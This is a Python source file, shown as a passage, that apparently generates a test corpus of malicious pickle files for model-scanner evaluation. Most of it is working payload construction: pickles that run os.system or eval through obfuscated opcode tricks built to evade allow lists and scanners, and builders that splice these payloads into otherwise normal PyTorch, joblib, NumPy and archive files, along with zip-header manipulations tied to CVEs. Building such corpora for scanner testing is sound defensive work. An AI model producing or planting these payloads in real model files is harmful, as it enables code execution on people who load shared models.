    "copy_reg._reconstructor(Popen, Popen, argv) calls Popen.__init__ (fix_imports)",
    (0, 2),
)
def _(m: Marker) -> Any:
    popen = G("subprocess", "Popen")
    return call(G("copy_reg", "_reconstructor"), popen, popen, m.argv)


@technique("rename-__builtin__", "GLOBAL '__builtin__ eval' (Python 2 name for builtins)", (0, 2))
def _(m: Marker) -> Any:
    return call(G("__builtin__", "eval"), m.expr)


# Calls without REDUCE --------------------------------------------------------------------------------


@technique("inst-opcode", "INST calls any callable; picklescan malicious10", (0, 2))
def _(m: Marker, proto: int) -> bytes:
    return proto_header(proto) + b"(" + p_str(m.cmd, proto) + b"iposix\nsystem\n."


@technique("obj-opcode", "OBJ calls the callable below its arguments", (1, 2, 4))
def _(m: Marker, proto: int) -> bytes:
    return proto_header(proto) + b"(" + p_global(SYSTEM, proto) + p_str(m.cmd, proto) + b"o."


def _map_then_tuple(m: Marker, proto: int, newobj: bytes, kwargs: bytes) -> bytes:
    lazy = p_global(G("builtins", "map"), proto) + emit((SYSTEM, [m.cmd]), proto) + kwargs + newobj
    return (
        proto_header(proto)
        + p_global(G("builtins", "tuple"), proto)
        + b"("
        + lazy
        + b"t"
        + kwargs
        + newobj
        + b"."
    )


@technique("newobj-map-tuple", "NEWOBJ: tuple.__new__(tuple, map(os.system, [cmd])) consumes the map", (2, 4))
def _(m: Marker, proto: int) -> bytes:
    return _map_then_tuple(m, proto, b"\x81", b"")


@technique("newobj_ex-map-tuple", "NEWOBJ_EX (protocol 4) with empty kwargs, same map/tuple call", (4, 5))
def _(m: Marker, proto: int) -> bytes:
    return _map_then_tuple(m, proto, b"\x92", b"}")


@technique("build-setstate", f"BUILD sets __setstate__ = os.system, a second BUILD calls it; {SOUR}", (2, 4))
def _(m: Marker) -> Any:
    namespace = call(G("types", "SimpleNamespace"))
    return Build(Build(namespace, (None, {"__setstate__": SYSTEM})), m.cmd)


@technique(
    "build-setattr-dotted-global",
    f"BUILD plants 'os'/'system' as attributes of an allowed function, dotted globals read them back; {MS}85",
    (4,),
)
def _(m: Marker) -> bytes:
    target = G("collections", "namedtuple")
    plant = emit(Build(target, (None, {"corpus_m": "os", "corpus_n": "system"})), 4) + b"0"
    names = p_global(G("collections", "namedtuple.corpus_m"), 4) + b"\x94" + b"0"
    names += p_global(G("collections", "namedtuple.corpus_n"), 4) + b"\x94" + b"0"
    return b"\x80\x04" + plant + names + b"h\x00h\x01\x93" + emit((m.cmd,), 4) + b"R."


# Reaching os.system through names an allow list may trust ------------------------------------------------


@technique(
    "dotted-torch-serialization-os", "STACK_GLOBAL('torch', 'serialization.os.system'): a trusted prefix"
)
def _(m: Marker) -> Any:
    return call(G("torch", "serialization.os.system"), m.cmd)


@technique(
    "getitem-vars-module",
    "_operator.getitem(vars(torch.serialization.os), 'system'): no global names os.system",
)
def _(m: Marker) -> Any:
    return call(
        call(
            G("_operator", "getitem"), call(G("builtins", "vars"), G("torch", "serialization.os")), "system"
        ),
        m.cmd,
    )


@technique(
    "sys-modules-alias",
    "sys.modules['numpy.corpus_alias'] = os, then GLOBAL 'numpy.corpus_alias system'; picklescan issue 22 family",
    (4,),
)
def _(m: Marker) -> bytes:
    alias = call(
        G("_operator", "setitem"),
        G("torch", "serialization.sys.modules"),
        "numpy.corpus_alias",
        G("torch", "serialization.os"),
    )
    return (
        b"\x80\x04" + emit(alias, 4) + b"0" + emit(call(G("numpy.corpus_alias", "system"), m.cmd), 4) + b"."
    )


@technique(
    "build-module-overwrite",
    "BUILD on the torch._utils module rewrites the allow-listed _rebuild_tensor to 'builtins', then 'eval', and "
    "STACK_GLOBAL reads them back (restored afterwards); picklescan tests/data/sys_module_override_sploit.pkl",
    (4,),
)
def _(m: Marker) -> bytes:
    module, name = p_str("torch._utils", 4) + b"\x94", p_str("_rebuild_tensor", 4) + b"\x94"  # memo 0, 1
    ops = b"\x80\x04" + module + name + b"\x93\x94" + b"0"  # memo 2: the original function
    ops += p_str("torch", 4) + p_str("_utils", 4) + b"\x93\x94" + b"0"  # memo 3: the module object

    def overwrite(value: bytes) -> bytes:  # BUILD the module with {_rebuild_tensor: value}
        return b"h\x03}h\x01" + value + b"sb0"

    ops += overwrite(p_str("builtins", 4)) + b"h\x00h\x01\x93\x94" + b"0"  # memo 4: 'builtins'
    ops += overwrite(p_str("eval", 4)) + b"h\x00h\x01\x93\x94" + b"0"  # memo 5: 'eval'
    ops += overwrite(b"h\x02")  # put the real function back
    return ops + b"h\x04h\x05\x93" + emit((m.expr,), 4) + b"R."


# Names the scanner has to compute ----------------------------------------------------------------------


@technique("codecs-rot13-names", "STACK_GLOBAL of names computed by _codecs.encode('cbfvk', 'rot13')", (2, 4))
def _(m: Marker, proto: int) -> bytes:
    def rot(s: str) -> bytes:
        return emit(call(G("_codecs", "encode"), codecs.encode(s, "rot13"), "rot13"), proto)

    return proto_header(proto) + rot("posix") + rot("system") + b"\x93" + emit((m.cmd,), proto) + b"R."


@technique("str-join-names", f"STACK_GLOBAL of ''.join(['po', 'six']) (builtins str.join); {MS}331", (4,))
def _(m: Marker) -> bytes:
    def join(*parts: str) -> bytes:
        return emit(call(G("builtins", "str.join"), "", list(parts)), 4)

    return b"\x80\x04" + join("po", "six") + join("sys", "tem") + b"\x93" + emit((m.cmd,), 4) + b"R."


@technique(
    "dotted-random-_os", "STACK_GLOBAL('random', '_os.system'): a dotted name through a module's import"
)
def _(m: Marker) -> Any:
    return call(G("random", "_os.system"), m.cmd)


@technique(
    "dotted-GLOBAL-opcode",
    "GLOBAL 'random\\n_os.system' (text opcode) resolves dotted names at protocol 4",
    (4,),
)
def _(m: Marker) -> bytes:
    return b"\x80\x04crandom\n_os.system\n" + emit((m.cmd,), 4) + b"R."


@technique(
    "stack-global-STRING-ops",
    f"STACK_GLOBAL fed by protocol 0 STRING opcodes, no PROTO; {PS}GHSA-9gvj-pp9x-gcfr",
    (0,),
)
def _(m: Marker) -> bytes:
    def string(s: str) -> bytes:
        return b"S" + repr(s).encode("ascii") + b"\n"

    return string("posix") + string("system") + b"\x93" + string(m.cmd) + b"\x85R."


# Memo tricks ------------------------------------------------------------------------------------------


@technique(
    "memo-put-get-names",
    "names PUT in the memo, decoys PUT after, GET GET STACK_GLOBAL; picklescan issue 22",
    (0,),
)
def _(m: Marker) -> bytes:
    ops = b"Vposix\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0"
    return ops + b"g2\ng3\n\x93(" + _text_str(m.cmd) + b"tR."


@technique(
    "memo-replay-decoy-literals",
    "MEMOIZEd names replayed by BINGET after decoy literals ('builtins', 'len'); agent-bom PR 3326",
    (4,),
)
def _(m: Marker) -> bytes:
    ops = b"\x80\x04" + p_str("posix", 4) + b"\x94" + p_str("system", 4) + b"\x94" + b"00"
    ops += p_str("builtins", 4) + p_str("len", 4) + b"00"
    return ops + b"h\x00h\x01\x93" + emit((m.cmd,), 4) + b"R."


@technique(
    "memo-deferred-global", "GLOBAL stored with BINPUT, popped, fetched by BINGET after honest data", (2, 4)
)
def _(m: Marker, proto: int) -> bytes:
    honest = emit({"weight": [1.0, 2.0], "bias": 0.5}, proto) + b"0"
    return (
        proto_header(proto)
        + p_global(SYSTEM, proto)
        + b"q\x070"
        + honest
        + b"h\x07"
        + emit((m.cmd,), proto)
        + b"R."
    )


@technique(
    "memo-missing-key",
    "payload first, then BINGET of a missing memo key (KeyError); picklescan keyerror-exploit",
)
def _(m: Marker) -> bytes:
    return b"\x80\x04" + emit(call(SYSTEM, m.cmd), 4) + b"0" + p_str("os", 4) + b"\x94h\x03h\x00\x93K\x42."


@technique(
    "memo-type-confusion", "payload first, then STACK_GLOBAL(42, 'os'); picklescan type-confusion-exploit"
)
def _(m: Marker) -> bytes:
    return (
        b"\x80\x04"
        + emit(call(SYSTEM, m.cmd), 4)
        + b"0J\x2a\x00\x00\x00\x94"
        + p_str("os", 4)
        + b"\x94h\x00h\x01\x93K\x42."
    )


# Extension registry ------------------------------------------------------------------------------------

EXT_CODE = 0xC0FFEE


@technique(
    "ext-registered",
    "copyreg.add_extension('posix', 'system', code), then EXT4 code: no GLOBAL for os",
    (2, 4),
)
def _(m: Marker, proto: int) -> bytes:
    register = emit(call(G("copyreg", "add_extension"), "posix", "system", EXT_CODE), proto) + b"0"
    return (
        proto_header(proto) + register + b"\x84" + struct.pack("<i", EXT_CODE) + emit((m.cmd,), proto) + b"R."
    )


@technique(
    "ext-unregistered",
    "EXT2 of a code this interpreter has not registered (resolves to whatever the victim registered)",
    (2,),
    executes=False,
    note="no loader registers that code: the load fails here",
)
def _(m: Marker) -> bytes:
    return b"\x80\x02\x83\xf0\x7f" + emit((m.cmd,), 2) + b"R."


# Streams ---------------------------------------------------------------------------------------------


@technique(
    "trailing-bytes-after-stop",
    "payload followed by junk after STOP (breaks stream-parsing scanners); picklescan malicious-invalid-bytes",
    (2, 4),
    whole_only=True,
)
def _(m: Marker, proto: int) -> bytes:
    return dump(call(SYSTEM, m.cmd), proto) + b"\n\n\t\t\xff\xfe not a pickle \x00\x01"


@technique(
    "second-pickle-in-stream",
    "an honest pickle, then the payload as a second pickle of the same stream; picklescan malicious6",
    (2, 4),
    stream_only=True,
    whole_only=True,
)
def _(m: Marker, proto: int) -> bytes:
    return dump(["a", "b", "c"], proto) + dump(call(SYSTEM, m.cmd), proto)


def technique_named(name: str) -> Technique:
    return next(t for t in TECHNIQUES if t.name == name)


# --------------------------------------------------------------------------------------------------------
# Hand-written containers: zip, 7z, npy headers
# --------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ZipMember:
    name: str
    data: bytes
    deflate: bool = False
    local_name: str | None = None  # a different name in the local header than in the central directory
    local_flags: int = 0
    central_flags: int = 0
    crc: int | None = None  # a wrong CRC-32
    descriptor: bool = False  # flag bit 3: zero CRC and sizes in the local header, a data descriptor after


def write_zip(members: Iterable[ZipMember]) -> bytes:
    out, central, count = bytearray(), bytearray(), 0
    for member in members:
        if member.deflate:
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            stored = packer.compress(member.data) + packer.flush()
        else:
            stored = member.data
        method = 8 if member.deflate else 0
        crc = zlib.crc32(member.data) if member.crc is None else member.crc
        local_name = (member.local_name or member.name).encode()
        offset = len(out)
        sizes = (crc, len(stored), len(member.data))
        flags = member.local_flags | (0x8 if member.descriptor else 0)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, *((0, 0, 0) if member.descriptor else sizes),
            len(local_name), 0,
        ) + local_name + stored  # fmt: skip
        if member.descriptor:
            out += struct.pack("<IIII", 0x08074B50, *sizes)
        name = member.name.encode()
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, member.central_flags | (0x8 if member.descriptor else 0),
            method, 0, 0x21, crc, len(stored),
            len(member.data), len(name), 0, 0, 0, 0, 0, offset,
        ) + name  # fmt: skip
        count += 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def _7z_number(n: int) -> bytes:
    if n < 0x80:
        return bytes([n])
    for extra in range(1, 9):
        if extra == 8 or n < 1 << (7 * (extra + 1)):
            first = (0xFF << (8 - extra)) & 0xFF
            if extra < 8:
                first |= n >> (8 * extra)
            return bytes([first]) + (n & ((1 << (8 * extra)) - 1)).to_bytes(extra, "little")
    raise ValueError(n)


@dataclass(frozen=True)
class SevenZipCoder:
    """One 7z coder: its method id (7-Zip's DOC/Methods.txt), properties, and how to pack bytes with it."""

    method: bytes
    props: bytes
    pack: Callable[[bytes], bytes]


def _lzma2_dict_byte(size: int) -> int:
    return next(b for b in range(41) if b == 40 or (2 | (b & 1)) << (b // 2 + 11) >= size)


SEVEN_ZIP_CODERS: dict[str, SevenZipCoder] = {
    "copy": SevenZipCoder(b"\x00", b"", lambda d: d),
    "lzma": SevenZipCoder(
        b"\x03\x01\x01",
        bytes([(2 * 5 + 0) * 9 + 3]) + (1 << 16).to_bytes(4, "little"),  # pb=2, lp=0, lc=3, 64 KiB
        lambda d: lzma.compress(
            d,
            lzma.FORMAT_RAW,
            filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}],
        ),
    ),
    "lzma2": SevenZipCoder(
        b"\x21",
        bytes([_lzma2_dict_byte(1 << 16)]),
        lambda d: lzma.compress(
            d, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 16}]
        ),
    ),
    "deflate": SevenZipCoder(
        b"\x04\x01\x08",
        b"",
        lambda d: (lambda c: c.compress(d) + c.flush())(zlib.compressobj(9, zlib.DEFLATED, -15)),
    ),
    "bzip2": SevenZipCoder(b"\x04\x02\x02", b"", bz2.compress),
}


def seven_zip(
    files: Iterable[tuple[str, bytes]],
    method: str | SevenZipCoder = "copy",
    *,
    encode_header: bool = False,
    solid: bool = True,
    attributes: dict[str, int] | None = None,
    crc: bool = True,
) -> bytes:
    """A 7z archive written from the format's specification (7-Zip's DOC/7zFormat.txt): one folder of one
    coder for all files (`solid`) or one per file, a SubStreamsInfo with each file's size and CRC, names,
    optional attributes, and the header stored plain or (`encode_header`, as 7-Zip does by default) packed
    with LZMA2 behind a kEncodedHeader. Empty files are written as empty streams."""
    coder = SEVEN_ZIP_CODERS[method] if isinstance(method, str) else method
    files = list(files)
    with_data = [(n, d) for n, d in files if d]
    groups = [with_data] if solid and with_data else [[f] for f in with_data]
    packed = [coder.pack(b"".join(d for _, d in g)) for g in groups]
    num = _7z_number

    def folder_record(c: SevenZipCoder) -> bytes:
        flags = len(c.method) | (0x20 if c.props else 0)
        return num(1) + bytes([flags]) + c.method + (num(len(c.props)) + c.props if c.props else b"")

    def streams_info(pack_pos: int, packs: list[bytes], folders: list[tuple[SevenZipCoder, int]]) -> bytes:
        out = (
            b"\x06"
            + num(pack_pos)
            + num(len(packs))
            + b"\x09"
            + b"".join(num(len(p)) for p in packs)
            + b"\x00"
        )
        out += b"\x07\x0b" + num(len(folders)) + b"\x00" + b"".join(folder_record(c) for c, _ in folders)
        out += b"\x0c" + b"".join(num(size) for _, size in folders) + b"\x00"
        return out

    header = b"\x01"
    if groups:
        header += b"\x04" + streams_info(0, packed, [(coder, sum(len(d) for _, d in g)) for g in groups])
        header += b"\x08\x0d" + b"".join(num(len(g)) for g in groups)
        header += b"\x09" + b"".join(num(len(d)) for g in groups for _, d in g[:-1])
        if crc:
            header += b"\x0a\x01" + b"".join(struct.pack("<I", zlib.crc32(d)) for g in groups for _, d in g)
        header += b"\x00\x00"
    if files:
        props = b""
        empty = [not d for _, d in files]
        if any(empty):
            bits = bytes(sum(0x80 >> (i % 8) for i in range(j, min(j + 8, len(empty))) if empty[i])
                         for j in range(0, len(empty), 8))  # fmt: skip
            props += b"\x0e" + num(len(bits)) + bits
            n_empty = sum(empty)
            props += (
                b"\x0f"
                + num((n_empty + 7) // 8)
                + bytes([0xFF] * (n_empty // 8))
                + (bytes([(0xFF << (8 - n_empty % 8)) & 0xFF]) if n_empty % 8 else b"")
            )  # every empty stream is an (empty) file, not a folder
        names = b"\x00" + b"".join(n.encode("utf-16-le") + b"\x00\x00" for n, _ in files)
        props += b"\x11" + num(len(names)) + names
        if attributes:
            body = b"\x01\x00" + b"".join(struct.pack("<I", attributes.get(n, 0x20)) for n, _ in files)
            props += b"\x15" + num(len(body)) + body
        header += b"\x05" + num(len(files)) + props + b"\x00"
    header += b"\x00"
    data = b"".join(packed)
    if encode_header:
        lz = SEVEN_ZIP_CODERS["lzma2"]
        packed_header = lz.pack(header)
        encoded = b"\x17" + streams_info(len(data), [packed_header], [(lz, len(header))])
        encoded = encoded[:-1] + b"\x0a\x01" + struct.pack("<I", zlib.crc32(header)) + b"\x00"  # folder CRC
        encoded += b"\x00"
        data += packed_header
        header = encoded
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def write_7z(name: str, data: bytes, method: str = "copy", encode_header: bool = False) -> bytes:
    """A 7z archive holding one file (Copy coder, plain header by default), per the 7z format spec."""
    return seven_zip([(name, data)], method, encode_header=encode_header)


def npy_header_object(shape: tuple[int, ...] = (1,)) -> bytes:
    """A version 1.0 .npy header for an object array (its data is a pickle)."""
    text = repr({"descr": "|O", "fortran_order": False, "shape": shape})
    pad = 64 - (10 + len(text) + 1) % 64
    body = (text + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(body)) + body


def compress(kind: str, data: bytes) -> bytes:
    if kind == "zlib":
        return zlib.compress(data, 3)
    if kind == "gzip":
        return gzip.compress(data, 3, mtime=0)
    if kind == "bz2":
        return bz2.compress(data, 3)
    if kind == "xz":
        return lzma.compress(data, format=lzma.FORMAT_XZ)
    if kind == "lzma":
        return lzma.compress(data, format=lzma.FORMAT_ALONE)
    raise ValueError(kind)


def tar_bytes(members: dict[str, bytes], mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, compression)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------------------
# Honest hosts (built once per protocol with the real libraries)
# --------------------------------------------------------------------------------------------------------


def _torch() -> Any:
    import torch

    return torch


def _state_dict() -> dict[str, Any]:
    torch = _torch()
    generator = torch.Generator().manual_seed(0)
    return OrderedDict(
        weight=torch.randn(3, 4, generator=generator),
        bias=torch.zeros(3),
        steps=torch.tensor([7], dtype=torch.int64),
    )


@cache
def torch_zip_members(proto: int) -> tuple[tuple[str, bytes], ...]:
    """The records of an honest `torch.save` zip checkpoint, in order."""
    buffer = io.BytesIO()
    _torch().save(_state_dict(), buffer, pickle_protocol=proto)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        return tuple((info.filename, archive.read(info)) for info in archive.infolist())


def torch_zip(proto: int, data_pkl: bytes | None = None, prefix: str = "archive", **trick: Any) -> bytes:
    """An honest checkpoint with `data.pkl` replaced; `trick` is applied to the data.pkl record."""
    members = []
    for name, data in torch_zip_members(proto):
        name = prefix + name[name.index("/") :]
        if name.endswith("/data.pkl") and data_pkl is not None:
            members.append(ZipMember(name, data_pkl, **trick))
        else:
            members.append(ZipMember(name, data))
    return write_zip(members)


@cache
def torch_legacy_parts(proto: int) -> tuple[bytes, bytes, bytes, bytes, bytes, bytes]:
    """An honest legacy (pre-1.6, `_use_new_zipfile_serialization=False`) file cut into its pickles:
    magic number, protocol version, sys_info, the object, the storage keys; then the raw storages."""
    buffer = io.BytesIO()
    _torch().save(_state_dict(), buffer, _use_new_zipfile_serialization=False, pickle_protocol=proto)
    raw = buffer.getvalue()
    stream, cuts = io.BytesIO(raw), [0]
    for _ in range(5):
        for _op in pickletools.genops(stream):
            pass
        cuts.append(stream.tell())
    return tuple(raw[a:b] for a, b in zip(cuts, cuts[1:], strict=False)) + (raw[cuts[-1] :],)  # type: ignore[return-value]


@cache
def torchscript_members() -> tuple[tuple[str, bytes], ...]:
    torch = _torch()
    module = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()))
    buffer = io.BytesIO()
    torch.jit.save(module, buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        return tuple((info.filename, archive.read(info)) for info in archive.infolist())


@cache
def joblib_honest(proto: int) -> bytes:
    """An uncompressed joblib dump whose numpy array bytes sit raw inside the pickle stream."""
    import joblib

    buffer = io.BytesIO()
    joblib.dump(
        {"coef": np.arange(64, dtype=np.float64).reshape(8, 8), "classes": np.arange(3)},
        buffer,
        protocol=proto,
    )
    return buffer.getvalue()


@cache
def npy_object_honest(proto: int, structured: bool = False) -> tuple[bytes, bytes]:
    """An object array as np.save writes it: (header, pickle). `structured`: a record dtype with one object
    field, which np.load unpickles just the same (`dtype.hasobject`)."""
    if structured:
        array = np.array([({"label": "cat"}, 0.5), ([1, 2], 1.5)], dtype=[("meta", "O"), ("score", "<f4")])
    else:
        array = np.array([{"label": "cat"}, [1, 2], "x"], dtype=object)
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    raw = buffer.getvalue()
    header_end = 10 + struct.unpack_from("<H", raw, 8)[0]
    return raw[:header_end], pickle.dumps(array, protocol=proto)


def npy_with_payload(payload: bytes, proto: int, structured: bool = False) -> bytes:
    header, honest = npy_object_honest(proto, structured)
    return header + splice(honest, payload)


def npz_bytes(members: dict[str, bytes], compressed: bool) -> bytes:
    return zip_bytes(members, zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED)


@cache
def plain_npy(dtype: str = "float32") -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.arange(12, dtype=dtype).reshape(3, 4))
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------------------
# Containers: how a technique's pickle is packed, and which loader a victim uses on it
# --------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Container:
    name: str
    suffix: str
    loader: str
    pack: Callable[[bytes, int], bytes]  # (payload pickle, protocol) -> file bytes
    spliced: bool = False  # the payload is spliced into an honest pickle (whole-stream tricks cannot be)
    reads_streams: bool = False  # the loader unpickles every pickle of the stream
    executes: bool = True
    requires: tuple[str, ...] = ()
    note: str = ""


def _host_proto(proto: int) -> int:
    return max(2, proto)  # torch and joblib hosts need protocol 2+ (protocol 0 persistent ids are strings)


def _legacy(proto: int, payload: bytes, part: int) -> bytes:
    parts = list(torch_legacy_parts(_host_proto(proto)))
    parts[part] = splice(parts[part], payload)
    return b"".join(parts)


def _nested_zip_in_targz(payload: bytes, _proto: int) -> bytes:
    return compress("gzip", tar_bytes({"bundle/model.zip": zip_bytes({"model/model.pkl": payload})}))


def _torchscript(payload: bytes, _proto: int) -> bytes:
    return write_zip(
        ZipMember(name, payload if name.endswith("/constants.pkl") else data)
        for name, data in torchscript_members()
    )


CONTAINERS: list[Container] = [
    Container("raw-pkl", ".pkl", "pickle", lambda p, _: p),
    Container(
        "raw-pt", ".pt", "torch", lambda p, _: p, note="torch.load of a raw pickle: the magic-number read"
    ),
    Container("raw-bin", ".bin", "torch", lambda p, _: p, note="pytorch_model.bin that is not a zip"),
    Container("raw-safetensors", ".safetensors", "pickle", lambda p, _: p, note="lying extension"),
    Container(
        "raw-npy", ".npy", "numpy", lambda p, _: p, note="np.load falls back to pickle for non-npy bytes"
    ),
    Container("raw-joblib", ".joblib", "joblib", lambda p, _: p),
    Container("torch-zip", ".pt", "torch", lambda p, proto: torch_zip(_host_proto(proto), p)),
    Container(
        "torch-zip-spliced",
        ".pt",
        "torch",
        lambda p, proto: torch_zip(
            _host_proto(proto), splice(dict(torch_zip_members(_host_proto(proto)))["archive/data.pkl"], p)
        ),
        spliced=True,
        note="loads to the honest state dict",
    ),
    Container("torch-legacy-magic", ".pt", "torch", lambda p, proto: _legacy(proto, p, 0), spliced=True),
    Container("torch-legacy-main", ".pt", "torch", lambda p, proto: _legacy(proto, p, 3), spliced=True),
    Container("torch-legacy-keys", ".pt", "torch", lambda p, proto: _legacy(proto, p, 4), spliced=True),
    Container(
        "torchscript-constants",
        ".pt",
        "torch-jit",
        _torchscript,
        executes=False,
        note="torch.jit.load's C++ unpickler resolves no arbitrary global; no honest exporter writes this",
    ),
    *(
        Container(f"joblib-{kind}", f".joblib.{kind}", "joblib", lambda p, _, kind=kind: compress(kind, p))
        for kind in ("zlib", "gzip", "bz2", "xz", "lzma")
    ),
    Container(
        "joblib-after-array",
        ".joblib",
        "joblib",
        lambda p, proto: splice(joblib_honest(_host_proto(proto)), p),
        spliced=True,
    ),
    *(
        Container(
            f"joblib-after-array-{kind}",
            ".joblib",
            "joblib",
            lambda p, proto, kind=kind: compress(kind, splice(joblib_honest(_host_proto(proto)), p)),
            spliced=True,
        )
        for kind in ("zlib", "gzip", "bz2", "xz", "lzma")
    ),
    Container("npy-object", ".npy", "numpy", npy_with_payload, spliced=True),
    Container(
        "npy-structured-object",
        ".npy",
        "numpy",
        lambda p, proto: npy_with_payload(p, proto, structured=True),
        spliced=True,
        note="descr is a record with an object field, not '|O'",
    ),
    Container(
        "npz",
        ".npz",
        "numpy",
        lambda p, proto: npz_bytes(
            {
                "weights.npy": plain_npy(),
                "labels.npy": npy_with_payload(p, proto),
            },
            False,
        ),
        spliced=True,
    ),
    Container(
        "npz-compressed",
        ".npz",
        "numpy",
        lambda p, proto: npz_bytes(
            {
                "weights.npy": plain_npy(),
                "labels.npy": npy_with_payload(p, proto),
            },
            True,
        ),
        spliced=True,
    ),
    Container(
        "npz-odd-member-name",
        ".npz",
        "numpy",
        lambda p, proto: npz_bytes({"weights.npy": plain_npy(), "labels": npy_with_payload(p, proto)}, False),
        spliced=True,
        note="np.load reads a member by its magic, whatever its name",
    ),
    Container(
        "torch-legacy-tar",
        ".tar",
        "torch",
        lambda p, _: tar_bytes(
            {
                "sys_info": pickle.dumps({"little_endian": True}, 2),
                "storages": p,
                "tensors": pickle.dumps(0, 2),
                "pickle": pickle.dumps({}, 2),
            }
        ),
        note="torch.load of a pre-0.4 tar checkpoint unpickles its 'storages' member first",
    ),
    Container("zip", ".zip", "archive", lambda p, _: zip_bytes({"model/model.pkl": p}), reads_streams=True),
    Container("tar", ".tar", "archive", lambda p, _: tar_bytes({"model/model.pkl": p}), reads_streams=True),
    Container(
        "tar-gz",
        ".tar.gz",
        "archive",
        lambda p, _: tar_bytes({"model/model.pkl": p}, "w:gz"),
        reads_streams=True,
    ),
    Container("gzip", ".pkl.gz", "archive", lambda p, _: compress("gzip", p), reads_streams=True),
    Container("zip-in-tar-gz", ".tar.gz", "archive", _nested_zip_in_targz, reads_streams=True),
    Container(
        "7z", ".7z", "archive", lambda p, _: write_7z("model.pkl", p), reads_streams=True, requires=("py7zr",)
    ),
    Container(
        "7z-lzma2",
        ".7z",
        "archive",
        lambda p, _: write_7z("model.pkl", p, "lzma2", encode_header=True),
        reads_streams=True,
        requires=("py7zr",),
        note="LZMA2 and an LZMA2-packed header, as 7-Zip writes by default",
    ),
]
CONTAINERS_BY_NAME = {c.name: c for c in CONTAINERS}
# Containers that are a single pickle stream with nothing around it: whole-stream tricks live only there.
_WHOLE_STREAM = {
    *(
        "raw-pkl",
        "raw-pt",
        "raw-bin",
        "raw-safetensors",
        "raw-npy",
        "raw-joblib",
        "torch-zip",
        "torch-legacy-tar",
    ),
    *("zip", "tar", "tar-gz", "gzip", "zip-in-tar-gz", "7z", "7z-lzma2"),
    *(f"joblib-{kind}" for kind in ("zlib", "gzip", "bz2", "xz", "lzma")),
}
_HEAVY_CONTAINERS = {"raw-pkl", "torch-zip"}


def _executes(tech: Technique, container: Container) -> tuple[bool, str]:
    if not tech.executes:
        return False, tech.note or "this interpreter cannot run it"
    if not container.executes:
        return False, container.note
    if tech.stream_only and not (container.reads_streams or container.name == "raw-pkl"):
        return False, "the loader unpickles only the first pickle of the stream"
    return True, ""


def _loader(tech: Technique, container: Container) -> str:
    if tech.stream_only and container.name == "raw-pkl":
        return "pickle-stream"
    return container.loader


# --------------------------------------------------------------------------------------------------------
# Zip tricks on PyTorch checkpoints, and whole-file tricks
# --------------------------------------------------------------------------------------------------------

# (name, source, data.pkl trick or builder, whether torch.load still runs the payload)
ZIP_TRICK_SOURCE = {
    "crc-mismatch": f"wrong CRC-32 on data.pkl: Python's zipfile refuses, torch ignores CRCs; CVE-2025-10156, {PS}GHSA-mjqp-26hc-grxg",
    "flag-encrypted-local": "'encrypted' flag bit 0x1 in the local header only; CVE-2025-1945 (Sonatype)",
    "flag-encrypted-central": "'encrypted' flag bit 0x1 in the central directory; CVE-2025-1945",
    "flag-0x20-local": "flag bit 0x20 (compressed patched data) in the local header; CVE-2025-1945",
    "flag-0x40-local": "flag bit 0x40 (strong encryption) in the local header; CVE-2025-1945",
    "local-name-mismatch": "local header names the record differently from the central directory; CVE-2025-1944",
    "duplicate-benign-first": "two data.pkl records, the honest one first in the central directory",
    "duplicate-evil-first": "two data.pkl records, the payload first in the central directory",
    "deflated-data-pkl": "data.pkl deflate-compressed (torch.save stores it)",
    "data-descriptor": "flag bit 3: zero CRC and sizes in data.pkl's local header, the real ones in a data descriptor",
    "odd-archive-folder": "the archive folder is not 'archive/' (torch uses any prefix)",
    "pickle-zip-polyglot": "a raw pickle with an honest checkpoint zip appended: zipfile sees a zip, torch a pickle",
    "magic-number-eval": f"legacy file whose magic number comes from eval(); {PS}GHSA-97f8-7cmv-76j2",
}


def _zip_trick_bytes(trick: str, payload: bytes, proto: int, path: str) -> bytes:
    honest_pkl = dict(torch_zip_members(proto))["archive/data.pkl"]
    if trick == "crc-mismatch":
        return torch_zip(proto, payload, crc=zlib.crc32(payload) ^ 0xFFFF)
    if trick == "flag-encrypted-local":
        return torch_zip(proto, payload, local_flags=0x1)
    if trick == "flag-encrypted-central":
        return torch_zip(proto, payload, local_flags=0x1, central_flags=0x1)
    if trick == "flag-0x20-local":
        return torch_zip(proto, payload, local_flags=0x20)
    if trick == "flag-0x40-local":
        return torch_zip(proto, payload, local_flags=0x40)
    if trick == "local-name-mismatch":
        return torch_zip(proto, payload, local_name="archive/datap.kl")
    if trick == "deflated-data-pkl":
        return torch_zip(proto, payload, deflate=True)
